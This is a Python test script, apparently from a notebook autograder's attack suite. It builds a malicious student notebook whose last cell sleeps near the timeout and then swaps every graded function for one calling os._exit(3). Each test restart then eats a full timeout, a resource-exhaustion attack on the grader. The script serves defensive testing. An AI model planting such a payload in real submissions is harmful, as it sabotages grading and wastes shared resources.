"""The honest decode solution beside one whose last cell sleeps just under --timeout and then makes every
graded function os._exit(3): each hidden test's call kills the worker at once (nothing spent of the budget for
calls), and the next test starts a worker again, which runs every cell again with a full notebook timeout.
How long does the TA wait, and is the honest learner graded in full?
Usage: python3 attacks/restart_amplification.py [TIMEOUT] [JOBS]   (GRADER_ISOLATION=process|bubblewrap)
"""
import sys, shutil, pathlib, csv
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from _nb import *
timeout = float(sys.argv[1]) if len(sys.argv) > 1 else 10.0
jobs = sys.argv[2] if len(sys.argv) > 2 else "2"
d = pathlib.Path("/tmp/h5/restart_amplification"); shutil.rmtree(d, ignore_errors=True)
subs = d / "subs"; subs.mkdir(parents=True)
write(load("decode"), subs / "honest.ipynb")
src = f'''
import os as _os, time as _t
_t.sleep({timeout - 1.5})
for _name, _obj in list(globals().items()):
    if callable(_obj) and getattr(_obj, "__module__", None) == "__main__" and not _name.startswith("_") and _name not in ("check", "check_all", "hint"):
        globals()[_name] = lambda *a, **k: _os._exit(3)
'''
write(append(load("decode"), src), subs / "mallory.ipynb")
p, dt = run(["grade", "batch", str(subs), "--out", str(d / "out"), "--lesson", "decode", "--jobs", jobs,
             "--timeout", str(timeout)], timeout=3000)
print(p.stdout.splitlines()[0] if p.stdout else p.stderr[-500:])
for row in csv.DictReader(open(d / "out/grades.csv")):
    print("  ", row["learner"], row["score"], row["status"])
